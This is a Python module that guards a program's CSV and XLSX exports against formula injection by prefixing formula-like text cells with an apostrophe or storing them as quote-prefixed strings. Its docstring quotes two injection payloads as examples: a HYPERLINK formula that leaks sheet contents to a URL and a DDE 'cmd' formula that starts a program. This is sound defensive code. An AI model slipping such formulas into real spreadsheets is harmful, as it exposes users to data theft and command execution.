"""Every CSV and XLSX the program writes goes through here, so no text cell can ever run as a formula.

A scenario's name, an uploaded file's header or cell, a county label: any text may start with ``=``, ``+``,
``-``, ``@``, a tab or a carriage return, which Excel (and LibreOffice, WPS) read as the start of a formula —
``=HYPERLINK("http://…"&A1)`` leaks the sheet, ``=cmd|' /C calc'!A0`` starts a program. Following OWASP's
CSV-injection guidance, such a CSV cell is written with a leading apostrophe (``'=…``: shown as text). In XLSX the
cell is stored as a string (never a formula) with Excel's quote-prefix style, so it shows exactly as typed and
stays text when edited. Numbers are written as numbers and never touched.
"""

from __future__ import annotations

import io
from collections.abc import Iterable
from pathlib import Path

import pandas as pd
from openpyxl import Workbook
from openpyxl.cell import Cell
from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE
from openpyxl.worksheet.worksheet import Worksheet

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
CSV_ENCODING = "utf-8-sig"  # with a byte-order mark, so Excel shows Chinese


def starts_formula(text: str) -> bool:
    """True when a spreadsheet would read ``text`` as the start of a formula."""
    return text.startswith(FORMULA_STARTS)


def neutral_text(value: object) -> object:
    """A CSV cell's value: text that could start a formula gets a leading apostrophe; anything else unchanged."""
    return "'" + value if isinstance(value, str) and starts_formula(value) else value


def neutral_frame(frame: pd.DataFrame) -> pd.DataFrame:
    """A copy of ``frame`` with every text cell and header neutralised (number columns untouched)."""
    out = frame.copy()
    for column in out.columns:
        if out[column].dtype == object or pd.api.types.is_string_dtype(out[column].dtype):
            out[column] = out[column].map(neutral_text).astype(object)
    out.columns = [neutral_text(c) for c in out.columns]
    return out


def csv_bytes(frame: pd.DataFrame) -> bytes:
    """``frame`` as UTF-8 CSV with a byte-order mark, text cells neutralised.

    Lines end with CRLF (as Excel writes them), so a cell holding a carriage return or a line feed is quoted
    and stays one cell; pandas quotes a lone carriage return only when it is part of the line ending.
    """
    return neutral_frame(frame).to_csv(index=False, lineterminator="\r\n").encode(CSV_ENCODING)


def write_csv(frame: pd.DataFrame, path: str | Path) -> Path:
    """Write :func:`csv_bytes` of ``frame`` to ``path``."""
    path = Path(path)
    path.write_bytes(csv_bytes(frame))
    return path


def text_cell(cell: Cell) -> None:
    """Keep a written cell holding text a string: never a formula, quote-prefixed when it looks like one."""
    if isinstance(cell.value, str):
        formula_like = cell.data_type == "f" or starts_formula(cell.value)
        cell.data_type = "s"
        if formula_like:
            cell.quotePrefix = True


def xlsx_text(value: object) -> object:
    """Text as an XLSX cell can hold it: control characters (which openpyxl refuses) become "\ufffd"."""
    return ILLEGAL_CHARACTERS_RE.sub("\ufffd", value) if isinstance(value, str) else value


def append_row(ws: Worksheet, values: Iterable[object]) -> None:
    """``ws.append(values)`` with every text cell kept text (openpyxl turns ``"=…"`` into a formula)."""
    ws.append([xlsx_text(v) for v in values])
    for cell in ws[ws.max_row]:
        text_cell(cell)


def _plain(value: object) -> object:
    """A frame value as openpyxl takes it: numpy scalars as Python numbers, NaN as an empty cell."""
    if hasattr(value, "item"):
        value = value.item()
    return None if isinstance(value, float) and value != value else value


def write_frame(ws: Worksheet, frame: pd.DataFrame) -> None:
    """Header row and rows of ``frame`` into ``ws`` with text kept text."""
    append_row(ws, [str(c) for c in frame.columns])
    for row in frame.itertuples(index=False):
        append_row(ws, [_plain(v) for v in row])


def xlsx_bytes(sheets: dict[str, pd.DataFrame]) -> bytes:
    """A workbook with one sheet per frame (name → frame), text cells kept text."""
    workbook = Workbook()
    workbook.remove(workbook.active)
    for name, frame in sheets.items():
        write_frame(workbook.create_sheet(name), frame)
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()
